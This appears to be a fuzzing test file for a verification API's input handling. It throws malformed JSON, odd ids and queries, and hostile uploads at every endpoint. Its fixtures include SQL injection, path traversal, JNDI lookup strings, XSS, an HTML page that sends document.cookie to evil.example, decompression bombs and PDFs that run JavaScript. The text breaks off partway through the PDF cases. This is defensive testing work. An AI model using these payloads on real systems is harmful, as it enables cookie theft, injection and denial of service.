// The hostile-input suite of issue 8: every endpoint gets well over 500 generated malformed
// requests (wrong types, missing and extra fields, huge and deep values, lone surrogates, NULs,
// prototype keys, odd numbers, invalid UTF-8, wrong content types and encodings, weird ids,
// methods and credentials) and over 100 hostile files go to document uploads and verification
// jobs. No answer may be a 5xx, every error must be a JSON:API error document, and afterwards the
// engine must be healthy with no workflow stuck. Everything is generated from one seeded PRNG,
// so a failure replays identically.
import { request as httpRequest, type IncomingHttpHeaders, type OutgoingHttpHeaders } from 'node:http';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKey, createOrgWithKey, revokeKey } from '../src/orgs/repository';
import { sniffImageType } from '../src/verification/job/routes';
import { businessApplication, files, individualApplication, insertVerificationJob, waitForStatus } from './support/applicationFixtures';
import { startTestEngine, type TestEngine } from './support/engine';
import { startWebhookReceiver, type WebhookReceiver } from './support/webhookReceiver';

const MAX_UPLOAD_BYTES = 64 * 1024;
const SEED = 0x8_5eed;

// ---- a seeded PRNG (mulberry32) -----------------------------------------------------------------

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = mulberry32(SEED);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
const randomBytes = (n: number) => {
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rnd() * 256);
  return b;
};
let ssnCounter = 0;
/** Unique within this test's org (a repeated SSN sends an application to review). */
const nextSsn = () => String(700_000_000 + ++ssnCounter * 7919);

// ---- raw HTTP (fetch cannot send invalid bytes, odd methods or duplicate headers) ---------------

interface Hostile {
  method: string;
  path: string;
  what: string;
  headers?: OutgoingHttpHeaders;
  body?: Buffer | string;
  /** Sent with Transfer-Encoding: chunked (no Content-Length), in pieces of this many bytes. */
  chunked?: number;
  /** A further expectation on the status: a complaint, or null when satisfied. */
  expect?: (status: number) => string | null;
}
interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
}

function send(baseUrl: string, r: Hostile, timeoutMs = 45_000): Promise<Answer> {
  const url = new URL(baseUrl);
  const body = r.body === undefined ? undefined : Buffer.isBuffer(r.body) ? r.body : Buffer.from(r.body, 'utf8');
  const headers: OutgoingHttpHeaders = { ...r.headers };
  if (body && !r.chunked) headers['content-length'] = String(body.length);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { host: url.hostname, port: url.port, method: r.method, path: r.path, headers, agent: false, timeout: timeoutMs },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }));
        res.on('error', reject);
      },
    );
    req.on('timeout', () => req.destroy(new Error(`no answer within ${timeoutMs} ms`)));
    req.on('error', reject);
    if (body && r.chunked) for (let i = 0; i < body.length; i += r.chunked) req.write(body.subarray(i, i + r.chunked));
    else if (body) req.write(body);
    req.end();
  });
}

const short = (s: string, n = 140) => (s.length > n ? `${s.slice(0, n)}…(${s.length} chars)` : s);
const tally = { requests: 0, uploads: 0, statuses: new Map<number, number>() };
const serverErrors: string[] = [];
const otherFailures: string[] = [];
/** What the barrage created: checked for stuck workflows afterwards. */
/** What the barrage created (id → the Authorization it was created with: some belong to another org): checked afterwards. */
const created = { applications: new Map<string, string>(), jobs: new Map<string, string>() };

function judge(r: Hostile, a: Answer | Error): Answer | null {
  const where = `${r.method} ${short(r.path)} [${short(r.what, 100)}]`;
  if (a instanceof Error) {
    otherFailures.push(`${where}: no answer (${a.message})`);
    return null;
  }
  tally.statuses.set(a.status, (tally.statuses.get(a.status) ?? 0) + 1);
  // HOSTILE_TRACE=<words> prints every answer to the requests whose description holds them.
  if (process.env.HOSTILE_TRACE && where.includes(process.env.HOSTILE_TRACE)) console.log(`${where} → ${a.status} ${short(a.text, 300)}`);
  if (a.status >= 500) {
    serverErrors.push(`${where} → ${a.status} ${short(a.text, 300)}`);
    return a;
  }
  if (a.status >= 400 && r.method !== 'HEAD') {
    let errors: unknown;
    try {
      errors = (JSON.parse(a.text) as { errors?: unknown }).errors;
    } catch {
      /* reported below */
    }
    if (!/json/.test(String(a.headers['content-type'])) || !Array.isArray(errors) || errors.length === 0)
      otherFailures.push(`${where} → ${a.status}, not a JSON:API error document: ${a.headers['content-type']} ${short(a.text, 200)}`);
  }
  const complaint = r.expect?.(a.status);
  if (complaint) otherFailures.push(`${where} → ${a.status} ${short(a.text, 200)}: ${complaint}`);
  if (a.status < 300 && r.method === 'POST') {
    let id: unknown;
    try {
      id = (JSON.parse(a.text) as { data?: { id?: unknown } }).data?.id;
    } catch {
      /* not JSON */
    }
    const auth = r.headers?.authorization;
    if (typeof id === 'string' && typeof auth === 'string' && r.path === '/applications') created.applications.set(id, auth);
    if (typeof id === 'string' && typeof auth === 'string' && r.path.startsWith('/verification-jobs')) created.jobs.set(id, auth);
  }
  return a;
}

async function barrage(baseUrl: string, list: Hostile[], concurrency = 4): Promise<void> {
  let next = 0;
  const worker = async () => {
    while (next < list.length) {
      const r = list[next++];
      tally.requests++;
      judge(r, await send(baseUrl, r).catch((e: Error) => e));
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
}

const refused = (status: number) => (status >= 400 && status < 500 ? null : 'expected a 4xx refusal');
const exactly = (want: number) => (status: number) => (status === want ? null : `expected ${want}`);

// ---- JSON mutations ------------------------------------------------------------------------------

type Path = (string | number)[];
const clone = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;
const enc = encodeURIComponent;

/** Every place in a JSON value, as the keys leading to it (the root is []). */
function places(v: unknown, path: Path = [], out: Path[] = []): Path[] {
  out.push(path);
  if (v && typeof v === 'object')
    for (const [k, x] of Object.entries(v as Record<string, unknown>)) places(x, [...path, Array.isArray(v) ? Number(k) : k], out);
  return out;
}
const defineOwn = (o: Record<string, unknown>, k: string, value: unknown) =>
  Object.defineProperty(o, k, { value, enumerable: true, writable: true, configurable: true });
function parentOf(root: unknown, path: Path): Record<string, unknown> | unknown[] | null {
  let v = root as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) {
    if (!v || typeof v !== 'object') return null;
    v = v[k] as Record<string | number, unknown>;
  }
  return v && typeof v === 'object' ? (v as Record<string, unknown>) : null;
}
function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  const parent = parentOf(root, path);
  if (parent) defineOwn(parent as Record<string, unknown>, String(path[path.length - 1]), value);
  return root;
}

const deepArray = (n: number) => '['.repeat(n) + ']'.repeat(n);
const deepObject = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
/** Values put in place of a member (JSON-serialisable: JSON.stringify escapes lone surrogates as \udxxx). */
const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 53 + 1,
  1e308,
  -1e308,
  Number.MIN_VALUE,
  '',
  ' ',
  '\t\n',
  'x'.repeat(300),
  'x'.repeat(5_000),
  'x'.repeat(70_000),
  'x'.repeat(900_000),
  '\ud800',
  'a\udfffb',
  'a\u0000b',
  '\u0000',
  '\u202eevil',
  '\ufeff',
  '😀'.repeat(200),
  'Z\u0301\u0301\u0301\u0301\u0301',
  '<script>alert(1)</script>',
  "'; DROP TABLE applications; --",
  '../../etc/passwd',
  '${jndi:ldap://x}',
  '1e309',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '9999999999999999999999',
  '1990-02-30',
  '0000-00-00',
  'Approved',
  [],
  [1, 2, 3],
  [[]],
  ['\ud800'],
  Array.from({ length: 5000 }, (_, i) => i),
  {},
  { a: 1 },
  { '': '' },
  JSON.parse('{"__proto__":{"polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
];
/** Tokens spliced into the JSON text where a value goes (not expressible as a JS value). */
const RAW_TOKENS = [
  '1e309',
  '-1e309',
  '-0',
  '1e-400',
  '123456789012345678901234567890',
  '-9223372036854775809',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"a\\u0000b"',
  deepArray(10_000),
  deepObject(10_000),
  'NaN',
  'Infinity',
  'undefined',
  '01',
  '.5',
  "'single'",
  '"unterminated',
  '"\\x41"',
  '"\\u12"',
  '{',
  ']',
];
const EXTRA_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'extra',
  'data',
  'type',
  'id',
  'attributes',
  'relationships',
  'included',
  'reviewer',
  'orgId',
  'status',
  '',
  ' ',
  'a'.repeat(5000),
  '\ud800',
  'x\u0000y',
  '$where',
];

/** One or more mutations of a valid body, said in words. */
function mutate(base: unknown): { text: string; what: string } {
  let doc = clone(base);
  const raws: string[] = [];
  const steps: string[] = [];
  const count = rnd() < 0.8 ? 1 : 2 + Math.floor(rnd() * 2);
  for (let i = 0; i < count; i++) {
    const all = places(doc);
    const path = pick(all);
    const at = `/${path.join('/')}`;
    const op = rnd();
    if (op < 0.42) {
      const v = pick(HOSTILE_VALUES);
      doc = setAt(doc, path, clone(v));
      steps.push(`${at} = ${short(JSON.stringify(v) ?? String(v), 40)}`);
    } else if (op < 0.58) {
      const token = pick(RAW_TOKENS);
      doc = setAt(doc, path, `@@RAW${raws.length}@@`);
      raws.push(token);
      steps.push(`${at} = raw ${short(token, 40)}`);
    } else if (op < 0.72) {
      const parent = path.length ? parentOf(doc, path) : null;
      if (parent && Array.isArray(parent)) parent.splice(Number(path[path.length - 1]), 1);
      else if (parent) delete (parent as Record<string, unknown>)[String(path[path.length - 1])];
      steps.push(path.length ? `delete ${at}` : 'no change');
    } else if (op < 0.88) {
      const objects = all.filter((p) => {
        const v = p.length ? (parentOf(doc, p) as Record<string, unknown> | null)?.[String(p[p.length - 1])] : doc;
        return v !== null && typeof v === 'object' && !Array.isArray(v);
      });
      const where = objects.length ? pick(objects) : [];
      const target = (where.length ? (parentOf(doc, where) as Record<string, unknown>)[String(where[where.length - 1])] : doc) as Record<
        string,
        unknown
      >;
      const key = pick(EXTRA_KEYS);
      const v = pick(HOSTILE_VALUES);
      if (target && typeof target === 'object') defineOwn(target, key, clone(v));
      steps.push(`extra /${where.join('/')}/${short(JSON.stringify(key), 20)} = ${short(JSON.stringify(v) ?? '', 30)}`);
    } else if (op < 0.95) {
      const cur = path.length ? (parentOf(doc, path) as Record<string, unknown> | null)?.[String(path[path.length - 1])] : doc;
      doc = setAt(doc, path, [cur]);
      steps.push(`${at} wrapped in an array`);
    } else {
      const cur = path.length ? (parentOf(doc, path) as Record<string, unknown> | null)?.[String(path[path.length - 1])] : doc;
      doc = setAt(doc, path, String(JSON.stringify(cur) ?? 'null'));
      steps.push(`${at} as a JSON string`);
    }
  }
  let text = JSON.stringify(doc) ?? 'null';
  raws.forEach((token, i) => (text = text.replace(`"@@RAW${i}@@"`, token)));
  return { text, what: steps.join('; ') };
}

/** Bodies that are not the document at all; `valid` is the route's real body, for truncations. */
function rawBodies(valid: string): [string, string | Buffer][] {
  const cuts = [1, Math.floor(valid.length / 3), Math.floor(valid.length / 2), valid.length - 1];
  return [
    ['empty body', ''],
    ['whitespace', ' \r\n\t '],
    ['null', 'null'],
    ['true', 'true'],
    ['a number', '123'],
    ['a string', '"data"'],
    ['an empty array', '[]'],
    ['an array of documents', `[${valid}]`],
    ['an empty object', '{}'],
    ['data null', '{"data":null}'],
    ['data an array', '{"data":[]}'],
    ['data a string', '{"data":"x"}'],
    ['data.attributes an array', '{"data":{"type":"x","attributes":[]}}'],
    ...cuts.map((n): [string, string] => [`truncated at ${n} of ${valid.length}`, valid.slice(0, n)]),
    ['trailing garbage', `${valid}garbage`],
    ['two documents', valid + valid],
    ['a byte-order mark', `\ufeff${valid}`],
    [
      'invalid UTF-8 in a string',
      Buffer.concat([Buffer.from('{"data":{"type":"'), Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0x80]), Buffer.from('"}}')]),
    ],
    ['CESU-8 surrogate bytes', Buffer.concat([Buffer.from('{"data":{"type":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}}')])],
    ['invalid UTF-8 everywhere', Buffer.from(valid.replace(/"/g, '\u00ff"'), 'latin1')],
    ['UTF-16 encoded', Buffer.from(valid, 'utf16le')],
    ['10k nested arrays', deepArray(10_000)],
    ['10k nested objects', deepObject(10_000)],
    ['200k nested arrays', deepArray(200_000)],
    ['10k nested data', `${'{"data":'.repeat(10_000)}{}${'}'.repeat(10_000)}`],
    ['1e309 literal', '{"data":1e309}'],
    ['-0 literal', '{"data":-0}'],
    ['NaN literal', '{"data":NaN}'],
    ['a 5000-digit number', `{"data":${'9'.repeat(5000)}}`],
    ['duplicate keys', `{"data":{"type":"x"},"data":${JSON.stringify((JSON.parse(valid) as { data?: unknown }).data ?? null)}}`],
    ['__proto__ at the top', `{"__proto__":{"isAdmin":true},"data":{"__proto__":{"isAdmin":true}}}`],
    ['constructor.prototype', '{"constructor":{"prototype":{"polluted":true}}}'],
    ['a NUL in a key', '{"data\\u0000":1}'],
    ['a lone surrogate in a key', '{"\\ud800":1}'],
    ['50k keys', `{${Array.from({ length: 50_000 }, (_, i) => `"k${i}":0`).join(',')}}`],
    ['300k-element array', `[${'0,'.repeat(300_000)}0]`],
    ['over 1 MB', `{"data":"${'x'.repeat(1_100_000)}"}`],
  ];
}

const CONTENT_TYPES: [string, OutgoingHttpHeaders][] = [
  ['text/plain', { 'content-type': 'text/plain' }],
  ['form-urlencoded', { 'content-type': 'application/x-www-form-urlencoded' }],
  ['multipart without a boundary', { 'content-type': 'multipart/form-data' }],
  ['multipart with a boundary', { 'content-type': 'multipart/form-data; boundary=xyz' }],
  ['json charset utf-16', { 'content-type': 'application/json; charset=utf-16' }],
  ['json charset latin1', { 'content-type': 'application/vnd.api+json; charset=latin1' }],
  ['json charset bogus', { 'content-type': 'application/json; charset="' }],
  ['no content type', {}],
  ['image/jpeg', { 'content-type': 'image/jpeg' }],
  ['octet-stream', { 'content-type': 'application/octet-stream' }],
  ['*/*', { 'content-type': '*/*' }],
  ['application/jsonx', { 'content-type': 'application/jsonx' }],
  ['json-patch', { 'content-type': 'application/json-patch+json' }],
  ['gzip claimed, plain body', { 'content-type': 'application/json', 'content-encoding': 'gzip' }],
  ['brotli claimed, plain body', { 'content-type': 'application/json', 'content-encoding': 'br' }],
  ['unknown encoding', { 'content-type': 'application/json', 'content-encoding': 'x-unknown' }],
  ['two encodings', { 'content-type': 'application/json', 'content-encoding': 'gzip, deflate' }],
];

const GZIP_BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20));

// ---- weird ids and queries -----------------------------------------------------------------------

const weirdIds = (real: string): [string, string][] => [
  ['empty', ''],
  ['zero', '0'],
  ['negative', '-1'],
  ['minus zero', '-0'],
  ['fraction', '1.5'],
  ['exponent', '1e3'],
  ['hex', '0x1f'],
  ['leading zeros', `00${real}`],
  ['plus sign', `%2B${real}`],
  ['trailing space', `${real}%20`],
  ['extension', `${real}.json`],
  ['19 nines', '9999999999999999999'],
  ['22 nines', '9999999999999999999999'],
  ['2^64', '18446744073709551616'],
  ['dot dot', '..'],
  ['encoded dot dot', '%2e%2e'],
  ['traversal', '..%2f..%2fetc%2fpasswd'],
  ['raw traversal', '../../etc/passwd'],
  ['NUL', '%00'],
  ['id and NUL', `${real}%00`],
  ['invalid percent byte', '%ff'],
  ['broken percent', '%E0%A4%A'],
  ['lone percent', '%'],
  ['unicode', enc('日本語')],
  ['emoji', enc('😀')],
  ['CESU surrogate', '%ED%A0%80'],
  ['fullwidth digit', enc('１')],
  ['raw latin-1 byte', '\u00ff'],
  ['4000 chars', 'a'.repeat(4000)],
  ['300 digits', '1'.repeat(300)],
  ['null', 'null'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['SQL', "1'%20OR%20'1'%3D'1"],
  ['markup', '%3Cscript%3E'],
  ['job-shaped', `vj_${'A'.repeat(20)}`],
  ['long job-shaped', `vj_${'x'.repeat(2000)}`],
];

const QUERIES: string[] = [
  'page[limit]=abc',
  'page[limit]=-1',
  'page[limit]=0',
  'page[limit]=1001',
  'page[limit]=1e309',
  'page[limit]=NaN',
  'page[limit]=1.5',
  'page[limit]=0x10',
  'page[limit]=',
  'page[limit]=9999999999999999999999',
  'page[offset]=-1',
  'page[offset]=1e9',
  'page[offset]=99999999999999999999',
  'page[offset]=1000000001',
  'page[limit]=1&page[limit]=2',
  'page[limit][]=1',
  'page[limit][x]=1',
  'page=abc',
  'page[]=1',
  'page[limit]=%00',
  'filter=abc',
  'filter[]=x',
  'filter[status]=Bogus',
  'filter[status][]=Approved&filter[status][]=%ED%A0%80',
  'filter[status][__proto__]=Approved',
  'filter[status][0][1]=x',
  `filter[status]=${'A'.repeat(5000)}`,
  'filter[tags]=notjson',
  'filter[tags]=%7B',
  `filter[tags]=${enc('{"a":{"b":1}}')}`,
  `filter[tags]=${enc('{"__proto__":"x","constructor":"y"}')}`,
  `filter[tags]=${enc('[1,2]')}`,
  `filter[tags]=${enc('{"a":"\\ud800"}')}`,
  `filter[tags]=${enc('{"a\\u0000":"b"}')}`,
  `filter[tags]=${enc(deepArray(3000))}`,
  'filter[query]=%FF%FE',
  'filter[query]=%ED%A0%80',
  `filter[query]=${'q'.repeat(8000)}`,
  'filter[query]=%27%20OR%201%3D1%20--',
  'filter[query]=%25',
  'filter[query]=_%25_%5C',
  'filter[email]=%00',
  `filter[email]=${'e'.repeat(3000)}`,
  'filter[since]=notadate',
  'filter[since]=%2B275760-09-13T00:00:00.001Z',
  'filter[since]=0000-01-01T00:00:00Z',
  'filter[until]=2024-13-45T99:99:99Z',
  'filter[type]=a&filter[type][x]=b',
  `filter[type][]=${'t'.repeat(3000)}`,
  'filter[fromId]=99999999999999999999',
  'filter[fromId]=-1',
  'filter[toId]=abc',
  'filter[fromId][]=1',
  'sort=unknown',
  'sort=createdAt&sort=-createdAt',
  'sort[]=x',
  '__proto__[polluted]=1',
  'constructor[prototype][polluted]=1',
  'a[b][c][d][e][f][g][h][i]=1',
  `${'a'.repeat(6000)}=1`,
  '=',
  '&&&',
  '%',
  '%zz',
  '%E0%A4%A',
  'page%5Blimit%5D=5',
  'filter[status]=%E2%80%AE',
  Array.from({ length: 1200 }, (_, i) => `p${i}=1`).join('&'),
  '\u00ff\u00fe=1',
  'filter[status]=\u00e9',
];

// ---- multipart -----------------------------------------------------------------------------------

interface Part {
  name?: string;
  filename?: string;
  type?: string;
  data: Buffer | string;
  /** Replaces the part's headers entirely. */
  rawHeaders?: string;
}
function multipart(parts: Part[], boundary = 'hostile-boundary-7e3f', opts: { close?: boolean; eol?: string } = {}) {
  const eol = opts.eol ?? '\r\n';
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const headers =
      p.rawHeaders ??
      `Content-Disposition: form-data${p.name !== undefined ? `; name="${p.name}"` : ''}${p.filename !== undefined ? `; filename="${p.filename}"` : ''}${eol}` +
        (p.type ? `Content-Type: ${p.type}${eol}` : '');
    chunks.push(
      Buffer.from(`--${boundary}${eol}${headers}${eol}`, 'latin1'),
      Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data),
      Buffer.from(eol),
    );
  }
  if (opts.close !== false) chunks.push(Buffer.from(`--${boundary}--${eol}`));
  return { body: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } as OutgoingHttpHeaders };
}
/** The end user's consent that every capture carries (a minute ago: it must be recent). */
const consent = () => ({ textVersion: 'biometrics-notice-1', acceptedAt: new Date(Date.now() - 60_000).toISOString() });
const consentParts = (): Part[] => [
  { name: 'consentTextVersion', data: consent().textVersion },
  { name: 'consentAcceptedAt', data: consent().acceptedAt },
];
const jobParts = (file: Buffer, extra: Part[] = [], type = 'image/jpeg', withConsent = true): Part[] => [
  { name: 'selfie', filename: 'selfie.jpg', type, data: file },
  { name: 'idFront', filename: 'id.jpg', type, data: file },
  ...extra,
  ...(withConsent ? consentParts() : []),
];

// ---- hostile files -------------------------------------------------------------------------------

interface HostileFile {
  name: string;
  bytes: Buffer;
  /** The Content-Type a document upload claims. */
  type: string;
  /** What a document upload must answer: a 4xx, a 2xx, exactly 413, or anything below 500. */
  doc: 'refused' | 'accepted' | 'any' | 413;
  chunked?: boolean;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
function pngChunk(type: string, data: Buffer, badCrc = false): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE((crc32(typed) ^ (badCrc ? 1 : 0)) >>> 0);
  return Buffer.concat([len, typed, crc]);
}
const ihdr = (w: number, h: number, bitDepth = 8, colorType = 0) => {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(w >>> 0, 0);
  d.writeUInt32BE(h >>> 0, 4);
  d[8] = bitDepth;
  d[9] = colorType;
  return pngChunk('IHDR', d);
};
const png = (...chunks: Buffer[]) => Buffer.concat([PNG_SIGNATURE, ...chunks, pngChunk('IEND', Buffer.alloc(0))]);
/** A grey PNG of w x h declared pixels whose IDAT inflates to `rows` rows of zeros: tiny on disk. */
const pngBomb = (w: number, h: number, rows: number) => png(ihdr(w, h), pngChunk('IDAT', deflateSync(Buffer.alloc((w + 1) * rows))));
/** Splits a PNG into its chunks (after the signature). */
function pngChunks(b: Buffer): Buffer[] {
  const out: Buffer[] = [];
  for (let i = 8; i + 12 <= b.length;) {
    const len = b.readUInt32BE(i);
    out.push(b.subarray(i, i + 12 + len));
    i += 12 + len;
  }
  return out;
}
/** A whole PNG padded (a private ancillary chunk before IEND) to exactly `size` bytes. */
function pngOfSize(base: Buffer, size: number): Buffer {
  const chunks = pngChunks(base);
  const end = chunks.pop()!;
  const pad = size - PNG_SIGNATURE.length - chunks.reduce((n, c) => n + c.length, 0) - end.length - 12;
  return Buffer.concat([PNG_SIGNATURE, ...chunks, pngChunk('prVt', randomBytes(pad)), end]);
}
function jpegWithSize(jpeg: Buffer, w: number, h: number): Buffer {
  const b = Buffer.from(jpeg);
  for (let i = 2; i + 9 < b.length;) {
    if (b[i] !== 0xff) break;
    const marker = b[i + 1];
    if (marker >= 0xc0 && marker <= 0xc3) {
      b.writeUInt16BE(h, i + 5);
      b.writeUInt16BE(w, i + 7);
      return b;
    }
    i += 2 + b.readUInt16BE(i + 2);
  }
  throw new Error('no SOF marker');
}
const segment = (marker: number, payload: Buffer) => {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(Math.min(0xffff, payload.length + 2), 2);
  return Buffer.concat([head, payload]);
};
const afterSoi = (jpeg: Buffer, ...segments: Buffer[]) => Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
const EXIF = Buffer.from('Exif\0\0', 'latin1');
const PDF_HEAD = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
const pdf = (catalogExtra: string, ...objects: string[]) =>
  Buffer.from(
    `${PDF_HEAD}1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n` +
      objects.map((o) => `${o}\n`).join('') +
      'trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n',
    'latin1',
  );
const gifFrame = Buffer.from([
  0x21, 0xf9, 0x04, 0x00, 0x0a, 0x00, 0x00, 0x00, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00,
]);
const ANIMATED_GIF = Buffer.concat([
  Buffer.from('GIF89a', 'latin1'),
  Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
  Buffer.from([0x21, 0xff, 0x0b]),
  Buffer.from('NETSCAPE2.0', 'latin1'),
  Buffer.from([3, 1, 0, 0, 0]),
  gifFrame,
  gifFrame,
  Buffer.from([0x3b]),
]);
const HTML = '<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
const SVG =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(document.domain)</script></svg>';

async function hostileFiles(): Promise<HostileFile[]> {
  const noise = (w: number, h: number) => sharp(randomBytes(w * h * 3), { raw: { width: w, height: h, channels: 3 } });
  const jpeg = await noise(64, 64).jpeg().toBuffer();
  const pngNoise = await noise(64, 64).png().toBuffer();
  const px = () => sharp({ create: { width: 1, height: 1, channels: 3, background: '#808080' } });
  const onePx = {
    jpeg: await px().jpeg().toBuffer(),
    png: await px().png().toBuffer(),
    webp: await px().webp().toBuffer(),
    gif: await px().gif().toBuffer(),
    tiff: await px().tiff().toBuffer(),
    avif: await sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } })
      .avif()
      .toBuffer(),
  };
  const out: HostileFile[] = [];
  const add = (name: string, bytes: Buffer, type: string, doc: HostileFile['doc'], chunked = false) =>
    out.push({ name, bytes, type, doc, chunked });

  // Whole files, so the refusals are not just "everything is refused".
  add('a whole 16x16 JPEG', files.jpeg, 'image/jpeg', 'accepted');
  add('a whole 4x4 PNG', files.png, 'image/png', 'accepted');
  add('a whole one-page PDF', files.pdf, 'application/pdf', 'accepted');
  add('a 1-pixel JPEG', onePx.jpeg, 'image/jpeg', 'accepted');
  add('a 1-pixel PNG', onePx.png, 'image/png', 'accepted');
  add('a 1-pixel WebP', onePx.webp, 'image/webp', 'refused');
  add('a 1-pixel WebP claimed as PNG', onePx.webp, 'image/png', 'refused');
  add('a 1-pixel GIF', onePx.gif, 'image/gif', 'refused');
  add('a 1-pixel GIF claimed as PNG', onePx.gif, 'image/png', 'refused');
  add('a 1-pixel TIFF claimed as JPEG', onePx.tiff, 'image/jpeg', 'refused');
  add('a TIFF', onePx.tiff, 'image/tiff', 'refused');
  add('an AVIF claimed as HEIC', onePx.avif, 'image/heic', 'refused');
  add('an AVIF claimed as JPEG', onePx.avif, 'image/jpeg', 'refused');

  // Cut short.
  for (const n of [3, 4, 20, 100, Math.floor(jpeg.length / 2), Math.floor(jpeg.length * 0.9), jpeg.length - 2])
    add(`a JPEG cut at ${n} of ${jpeg.length} bytes`, jpeg.subarray(0, n), 'image/jpeg', 'refused');
  for (const n of [8, 16, 33, Math.floor(pngNoise.length / 2)])
    add(`a PNG cut at ${n} of ${pngNoise.length} bytes`, pngNoise.subarray(0, n), 'image/png', 'refused');
  // Every pixel is there, only the IEND trailer is missing: libpng decodes it without a warning.
  add('a PNG without its IEND chunk', pngNoise.subarray(0, pngNoise.length - 12), 'image/png', 'any');
  add('a PDF without %%EOF', files.pdf.subarray(0, files.pdf.length - 7), 'application/pdf', 'refused');
  const idat = pngChunks(pngNoise).find((c) => c.toString('latin1', 4, 8) === 'IDAT')!;
  add(
    'a PNG whose IDAT CRC is wrong',
    png(ihdr(64, 64, 8, 2), pngChunk('IDAT', idat.subarray(8, idat.length - 4), true)),
    'image/png',
    'refused',
  );
  for (let k = 0; k < 3; k++) {
    const flipped = Buffer.from(jpeg);
    for (let i = 0; i < 12; i++) flipped[200 + Math.floor(rnd() * (flipped.length - 210))] ^= 1 << Math.floor(rnd() * 8);
    add(`a JPEG with 12 flipped bits (${k})`, flipped, 'image/jpeg', 'any');
  }

  // Markup and code in image clothing.
  add('HTML claimed as JPEG', Buffer.from(HTML), 'image/jpeg', 'refused');
  add('HTML as text/html', Buffer.from(HTML), 'text/html', 'refused');
  add('a JPEG signature then HTML', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]), 'image/jpeg', 'refused');
  add('HTML after a whole JPEG (polyglot)', Buffer.concat([files.jpeg, Buffer.from(HTML)]), 'image/jpeg', 'any');
  add(
    'HTML in a PNG tEXt chunk',
    png(...pngChunks(files.png).slice(0, -1), pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`))),
    'image/png',
    'any',
  );
  add('SVG with script claimed as PNG', Buffer.from(SVG), 'image/png', 'refused');
  add('SVG with script claimed as JPEG', Buffer.from(SVG), 'image/jpeg', 'refused');
  add('SVG as image/svg+xml', Buffer.from(SVG), 'image/svg+xml', 'refused');
  add('JavaScript claimed as JPEG', Buffer.from('alert(document.cookie)//'), 'image/jpeg', 'refused');
  add('JavaScript as application/javascript', Buffer.from('alert(1)'), 'application/javascript', 'refused');
  add('a PDF signature then HTML', Buffer.from(`%PDF-1.4\n${HTML}\n%%EOF\n`), 'application/pdf', 'refused');
  add(
    'a GIF with a ZIP appended (GIFAR)',
    Buffer.concat([onePx.gif, Buffer.from('PK\x03\x04', 'latin1'), randomBytes(200)]),
    'image/png',
    'refused',
  );
  add(
    'a JPEG with a ZIP appended',
    Buffer.concat([files.jpeg, Buffer.from('PK\x03\x04', 'latin1'), randomBytes(200)]),
    'image/jpeg',
    'any',
  );
  add('a PNG claimed as JPEG', files.png, 'image/jpeg', 'refused');
  add('a JPEG claimed as PDF', files.jpeg, 'application/pdf', 'refused');

  // PDFs that act, or that try to hurt the parser.
  add('a PDF with /JavaScript', pdf('/Names << /JavaScript 3 0 R >>'), 'application/pdf', 'refused');
  add('a PDF that runs JS when opened', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'application/pdf', 'refused');
